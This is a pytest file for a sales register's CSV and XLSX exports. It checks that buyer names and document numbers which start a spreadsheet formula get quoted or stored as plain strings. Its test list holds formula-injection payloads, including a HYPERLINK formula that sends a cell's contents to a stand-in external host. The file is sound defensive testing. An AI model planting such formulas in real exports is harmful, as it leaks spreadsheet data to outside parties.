"""The register exports never hand a spreadsheet a formula written by a buyer or a cashier."""

from __future__ import annotations

import csv
import io
import zipfile
from datetime import UTC, datetime
from decimal import Decimal

import openpyxl
import pytest

from sales.exports import csv_stream, xlsx_stream
from sales.selectors.reports import RegisterRow

HOSTILE = ('=HYPERLINK("http://x.example/?"&A1,"ver")', "+1+1", "-2+3", "@SUM(A1:A9)", "\tx", "\rx")


def _row(*, buyer_name: str, doc_number: str = "20100066603", total: str = "11.80") -> RegisterRow:
    amount = Decimal(total)
    return RegisterRow(
        issued_at=datetime(2026, 3, 20, 15, 0, tzinfo=UTC),
        store="0000",
        document_type="07" if amount < 0 else "01",
        series="F001",
        number=7,
        buyer_doc_type="6",
        buyer_doc_number=doc_number,
        buyer_name=buyer_name,
        gravadas=(amount / Decimal("1.18")).quantize(Decimal("0.01")),
        exoneradas=Decimal("0.00"),
        inafectas=Decimal("0.00"),
        igv=amount - (amount / Decimal("1.18")).quantize(Decimal("0.01")),
        icbper=Decimal("0.00"),
        total=amount,
        status="Aceptado",
        reference="01 F001-6" if amount < 0 else "",
        counts_in_total=True,
    )


def _csv(rows: list[RegisterRow]) -> list[list[str]]:
    text = b"".join(csv_stream(rows)).decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text)))


@pytest.mark.parametrize("name", HOSTILE)
def test_csv_text_that_starts_a_formula_is_quoted(name):
    header, line, _totals = _csv([_row(buyer_name=name, doc_number=name)])
    cells = dict(zip(header, line, strict=True))
    assert cells["Cliente"] == "'" + name
    assert cells["Doc. cliente"] == "'" + name


@pytest.mark.parametrize("text", ["-", "-12", "+51", "-3.5"])
def test_csv_leaves_a_sign_before_a_number_or_nothing_alone(text):
    # "-" is every anonymous buyer's document number (CLIENTES VARIOS).
    header, line, _totals = _csv([_row(buyer_name="CLIENTES VARIOS", doc_number=text)])
    assert dict(zip(header, line, strict=True))["Doc. cliente"] == text


def test_csv_leaves_plain_text_and_negative_amounts_alone():
    header, line, totals = _csv([_row(buyer_name="Bodega Doña Rosa - Surco", total="-11.80")])
    cells = dict(zip(header, line, strict=True))
    assert cells["Cliente"] == "Bodega Doña Rosa - Surco"
    assert cells["Total"] == "-11.80" and cells["IGV"] == "-1.80"  # numbers, not text
    assert totals[header.index("Total")] == "-11.80"
    assert cells["Fecha"] == "2026-03-20" and cells["Número"] == "7"


def test_xlsx_writes_such_text_as_a_string_never_a_formula():
    """Inline strings are not evaluated, so the xlsx keeps the buyer's text exactly."""
    data = b"".join(xlsx_stream([_row(buyer_name=n) for n in HOSTILE], title="Registro"))
    with zipfile.ZipFile(io.BytesIO(data)) as zf:
        sheet = next(zf.read(n) for n in zf.namelist() if n.startswith("xl/worksheets/sheet"))
    assert b"<f>" not in sheet and b"<f " not in sheet
    ws = openpyxl.load_workbook(io.BytesIO(data)).active
    names = [ws.cell(row=r, column=9) for r in range(2, 2 + len(HOSTILE))]
    assert [c.data_type for c in names] == ["s"] * len(HOSTILE)
    assert [c.value for c in names] == [n.replace("\r", "\n") for n in HOSTILE]  # XML reads CR as LF
